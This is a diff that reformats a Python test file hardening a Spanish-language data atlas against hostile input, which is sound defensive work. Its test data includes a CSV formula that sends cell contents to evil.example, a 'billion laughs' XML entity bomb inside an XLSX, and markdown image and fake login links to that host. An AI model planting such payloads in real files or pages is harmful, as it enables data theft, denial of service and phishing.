@@ -36,11 +36,19 @@ FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"Ver")', "+1+1", "-2+3", "@
 
 # --- the import report's CSV ---------------------------------------------------------------------------------
 
+
 def test_the_import_report_csv_neutralises_formulas():
-    results = tuple(RowResult(n + 2, REJECTED, formula, (Issue(n + 2, formula, "validate.no_point"),))
-                    for n, formula in enumerate(FORMULAS))
-    report = Report("campo.csv", "innovations", results, Changes(),
-                    file_issues=(Issue(None, FORMULAS[0], "validate.no_point", severity=FLAG),))
+    results = tuple(
+        RowResult(n + 2, REJECTED, formula, (Issue(n + 2, formula, "validate.no_point"),))
+        for n, formula in enumerate(FORMULAS)
+    )
+    report = Report(
+        "campo.csv",
+        "innovations",
+        results,
+        Changes(),
+        file_issues=(Issue(None, FORMULAS[0], "validate.no_point", severity=FLAG),),
+    )
     rows = list(csv.reader(io.StringIO(report.csv("es").decode("utf-8-sig"))))
     cells = [cell for row in rows[1:] for cell in row]
     assert [c for c in cells if c.startswith(("=", "+", "-", "@"))] == []
@@ -82,8 +90,13 @@ GeoPackageStore(atlas).commit(Changes(updated={"innovations": row}), Source("imp
 
 def _kill_mid_write(atlas: Path, tmp_path: Path) -> None:
     ready = tmp_path / "ready"
-    process = subprocess.Popen([sys.executable, "-c", KILLED_MID_WRITE, str(atlas), str(ready)], cwd=ROOT,
-                               env={**os.environ, "PYTHONPATH": str(ROOT)}, stderr=subprocess.PIPE, text=True)
+    process = subprocess.Popen(
+        [sys.executable, "-c", KILLED_MID_WRITE, str(atlas), str(ready)],
+        cwd=ROOT,
+        env={**os.environ, "PYTHONPATH": str(ROOT)},
+        stderr=subprocess.PIPE,
+        text=True,
+    )
     deadline = time.monotonic() + WAIT
     while not ready.exists():
         if process.poll() is not None:
@@ -135,10 +148,10 @@ def test_the_sweep_keeps_backups_it_cannot_prove_orphaned(atlas, tmp_path):
 
 # --- hostile files on *Gestionar datos* ---------------------------------------------------------------------
 
+
 def _laughing_workbook() -> bytes:
     """An XLSX whose worksheet declares a billion laughs (nine levels of ten entities)."""
-    entities = '<!ENTITY lol0 "lol">' + "".join(
-        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
+    entities = '<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
     buffer = io.BytesIO()
     book = openpyxl.Workbook()
     book.active.append(["name", "region"])
@@ -150,7 +163,7 @@ def _laughing_workbook() -> bytes:
             data = plain.read(item.filename)
             if item.filename == "xl/worksheets/sheet1.xml":
                 body = data.decode()
-                body = body[body.index("<worksheet"):].replace("<t>", "<t>&lol9;", 1)
+                body = body[body.index("<worksheet") :].replace("<t>", "<t>&lol9;", 1)
                 data = f'<?xml version="1.0"?><!DOCTYPE worksheet [{entities}]>{body}'.encode()
             out.writestr(item, data)
     return hostile.getvalue()
@@ -208,10 +221,18 @@ def test_a_hostile_file_is_refused_on_the_page_without_a_traceback(editor_on, at
     _unchanged(atlas, before)
 
 
-@pytest.mark.parametrize("error", [RecursionError("maximum recursion depth exceeded"), ParseError("undefined entity"),
-                                   zipfile.BadZipFile("Bad magic number"), MemoryError(), KeyError("xl/workbook.xml"),
-                                   UnicodeDecodeError("utf-8", b"\xff", 0, 1, "invalid start byte")],
-                         ids=lambda e: type(e).__name__)
+@pytest.mark.parametrize(
+    "error",
+    [
+        RecursionError("maximum recursion depth exceeded"),
+        ParseError("undefined entity"),
+        zipfile.BadZipFile("Bad magic number"),
+        MemoryError(),
+        KeyError("xl/workbook.xml"),
+        UnicodeDecodeError("utf-8", b"\xff", 0, 1, "invalid start byte"),
+    ],
+    ids=lambda e: type(e).__name__,
+)
 def test_an_error_no_reader_expects_is_said_plainly(editor_on, atlas, monkeypatch, error):
     def broken(*args, **kwargs):
         raise error
@@ -257,7 +278,8 @@ def test_an_error_while_importing_is_said_plainly_and_writes_nothing(editor_on, 
     assert not at.exception, [e.message for e in at.exception]
     assert [e.value for e in at.error] == [
         "No se pudo importar el archivo «` comunidades.csv `»; no se escribió nada en el atlas. "
-        "Detalle: ` OSError: [Errno 28] No space left on device `"]
+        "Detalle: ` OSError: [Errno 28] No space left on device `"
+    ]
     _unchanged(atlas, before)
 
 
@@ -290,6 +312,7 @@ def test_a_file_name_cannot_leave_the_upload_folder(editor_on, tmp_path):
 
 # --- a link's text in the browser ----------------------------------------------------------------------------
 
+
 @pytest.fixture(scope="module")
 def server(tmp_path_factory):
     folder = tmp_path_factory.mktemp("hardening")
@@ -299,8 +322,11 @@ def server(tmp_path_factory):
 
 
 @pytest.mark.browser
-@pytest.mark.parametrize("value", ["![t](http://evil.example/t.png)", "[Inicie sesión aquí](http://evil.example/login)"],
-                         ids=["image", "link"])
+@pytest.mark.parametrize(
+    "value",
+    ["![t](http://evil.example/t.png)", "[Inicie sesión aquí](http://evil.example/login)"],
+    ids=["image", "link"],
+)
 def test_link_text_in_a_notice_fetches_nothing_and_links_nowhere(chromium, server, value):
     watch = Watch()
     context, page = watched_page(chromium, watch)
